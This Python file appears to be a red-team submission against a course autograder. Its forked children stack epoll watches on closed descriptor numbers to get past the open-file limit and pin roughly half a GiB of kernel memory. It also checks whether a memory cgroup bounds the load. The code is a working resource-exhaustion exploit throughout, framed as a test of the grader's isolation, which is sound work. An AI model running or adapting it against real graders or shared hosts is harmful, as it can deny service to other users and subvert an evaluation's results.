import os
import resource
import select
import signal
import struct
import time

GIB = 1 << 30
WATCH_BYTES = 210  # kernel memory a watch costs (an epitem and its wait-queue entry): measured in a memory group
CAP = GIB // 2  # here it stops
PARTS = 8  # children adding watches at once (each holds about 110 MiB at 256 open files)
SECONDS = 8.5  # the red team's grader gives one test's calls 10 s
GROUP_PREFIX = "cs336-worker-"  # the memory group the grader makes for a worker, where it can
_outcome = []  # (watches, what stopped them), once per process: every later call answers the same
_kept = []  # a child's epoll instances: closing one (as its object is collected) would drop its watches


def _open_numbers(limit):
    """The descriptor numbers this process has open (by /proc/self/fd, else by asking each number)."""
    try:
        return {int(name) for name in os.listdir("/proc/self/fd")}
    except OSError:
        found = set()
        for number in range(limit):
            try:
                os.fstat(number)
                found.add(number)
            except OSError:
                pass
        return found


def add_watches(cap_watches, deadline):
    """In a child: a third of its free descriptors as epoll instances, a third as pipes (their reading
    ends), and each of the pipes placed in turn on each free descriptor number left, added there to every
    instance, and that number closed again. An epoll watch is keyed by file and number and lasts while
    the file is open, not the number, so the watches outlive their numbers: instances x pipes x numbers
    of them, beyond the open-file limit. (watches, what stopped it)."""
    limit = resource.getrlimit(resource.RLIMIT_NOFILE)[0]
    limit = min(limit if limit != resource.RLIM_INFINITY else 1024, 1024)
    used = _open_numbers(limit)
    third = max((limit - len(used) - 8) // 3, 1)
    instances, pipes = [], []
    _kept.append(instances)
    try:
        for _ in range(third):
            instances.append(select.epoll())
        for _ in range(third):
            reading, writing = os.pipe()
            os.close(writing)
            pipes.append(reading)
    except OSError as error:
        return 0, f"setting up: {error.strerror}"
    used = _open_numbers(limit)
    free = [n for n in range(limit) if n not in used][:-2]  # two left for the reply
    watches, stopped = 0, "reached the cap"
    try:
        for pipe in pipes:
            for number in free:
                os.dup2(pipe, number)
                for instance in instances:
                    instance.register(number, select.EPOLLIN)
                watches += len(instances)
                os.close(number)
                if watches >= cap_watches:
                    return watches, stopped
            if time.monotonic() > deadline:
                return watches, "ran out of time"
    except OSError as error:
        stopped = f"epoll_ctl: {error.strerror}"
    return watches, (f"{stopped} ({len(instances)} instances x {len(pipes)} pipes x {len(free)} numbers, "
                     f"open-file limit {limit})")


def hold_in_children(cap=CAP, parts=PARTS, seconds=SECONDS):
    """`add_watches` for cap / parts bytes in each of `parts` forked children at once; (bytes held at
    once, what stopped them). The children are killed once each has said what it held."""
    start, children, reader, writer = time.monotonic(), [], *os.pipe()
    watches, why, heard = 0, [], 0
    try:
        for _ in range(parts):
            pid = os.fork()
            if pid == 0:
                os.close(reader)
                try:
                    got, stopped = add_watches(cap // parts // WATCH_BYTES, start + seconds)
                except BaseException as error:  # noqa: BLE001 - the parent must hear from every child
                    got, stopped = 0, repr(error)
                text = stopped.encode()[:200]
                os.write(writer, struct.pack("<QH", got, len(text)) + text)
                while True:
                    time.sleep(60)
            children.append(pid)
        while heard < parts:
            left = start + seconds + 1 - time.monotonic()
            if left <= 0 or not select.select([reader], [], [], left)[0]:
                why.append(f"ran out of time with {heard} of {parts} children done")
                break
            got, size = struct.unpack("<QH", os.read(reader, 10))
            watches += got
            why.append(os.read(reader, size).decode() if size else "")
            heard += 1
    finally:
        for pid in children:
            try:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
            except OSError:
                pass
        os.close(reader)
        os.close(writer)
    return watches, f"{'; '.join(dict.fromkeys(why))}; {time.monotonic() - start:.1f} s"


def memory_group():
    """The memory cgroup the grader made for this worker, where /proc/self/cgroup names one (None else)."""
    try:
        with open("/proc/self/cgroup") as handle:
            for line in handle:
                _, controllers, path = line.rstrip("\n").split(":", 2)
                if (controllers == "" or "memory" in controllers.split(",")) and GROUP_PREFIX in path:
                    return path
    except (OSError, ValueError):
        return None
    return None


def attack(args):
    """Hold the memory once; if it could, answer honestly (so the attack shows as full marks where it must
    lose them), else fail saying what stopped it."""
    if not _outcome:
        _outcome.append(hold_in_children())
    watches, stopped = _outcome[0]
    held = watches * WATCH_BYTES
    group = memory_group()
    if group is not None:
        raise MemoryError(f"held {held / GIB:.2f} GiB in {watches:,} epoll watches in {PARTS} children ({stopped}), "
                          f"but the kernel charges them to the worker's memory group {group}, which bounds them")
    if held < CAP:
        raise MemoryError(f"held only {held / GIB:.2f} GiB in {watches:,} epoll watches in {PARTS} children "
                          f"({stopped})")
    return None  # the function's own body runs on
